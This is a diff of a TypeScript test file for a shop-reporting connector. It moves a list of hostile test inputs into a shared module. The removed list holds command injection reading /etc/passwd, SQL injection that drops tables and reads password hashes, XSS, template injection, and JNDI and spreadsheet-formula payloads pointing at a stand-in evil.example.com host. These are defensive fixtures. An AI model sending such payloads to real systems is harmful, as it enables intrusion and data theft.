@@ -1,67 +1,9 @@
 import type { HttpRequest, HttpResponse } from '@reporting/contract/outbound';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ConnectorError } from '../connector.ts';
+import { PAYLOADS } from '../testing/payloads.ts';
 import { MARLOW, shopQuery, type TestShops, testShops } from '../testing/shops.ts';
 import { connector } from './index.ts';
-
-/** Split, so that linters do not report a template placeholder. */
-const DOLLAR = '$';
-
-/** Texts that are dangerous in a path, a query, a log, a page or a query language. */
-const PAYLOADS = [
-  '../../wp-admin/users.php',
-  '..%2f..%2fwp-config.php',
-  '/wp-json/wc/v3/customers',
-  '//evil.example.com/',
-  'https://evil.example.com/',
-  '@evil.example.com',
-  '?consumer_key=ck_x',
-  '&status=any&per_page=100',
-  '#fragment',
-  ';cat /etc/passwd',
-  '|id',
-  '$(id)',
-  '`id`',
-  "' OR '1'='1",
-  "'; DROP TABLE wp_posts; --",
-  '" OR ""="',
-  '1 UNION SELECT user_pass FROM wp_users',
-  'sleep(10)',
-  '*',
-  '%',
-  '_',
-  '%00',
-  '\u0000',
-  'a\r\nX-Injected: yes',
-  'a\nHost: evil.example.com',
-  '%0d%0aSet-Cookie:x=1',
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '"><svg onload=alert(1)>',
-  'javascript:alert(1)',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '{{7*7}}',
-  `${DOLLAR}{7*7}`,
-  '#{7*7}',
-  '<%= 7*7 %>',
-  '%{jndi:ldap://evil.example.com/a}',
-  `${DOLLAR}{jndi:ldap://evil.example.com/a}`,
-  '__proto__',
-  'constructor',
-  'toString',
-  '{"$gt":""}',
-  '[object Object]',
-  '=HYPERLINK("https://evil.example.com")',
-  '+cmd|/C calc!A0',
-  '\u202egnp.exe',
-  '\ufeff',
-  '\ud800',
-  '🛒'.repeat(50),
-  'a'.repeat(5_000),
-  '\u001b[31mred\u001b[0m',
-  'NaN',
-  '-1',
-];
 
 let shops: TestShops;
 beforeAll(async () => {
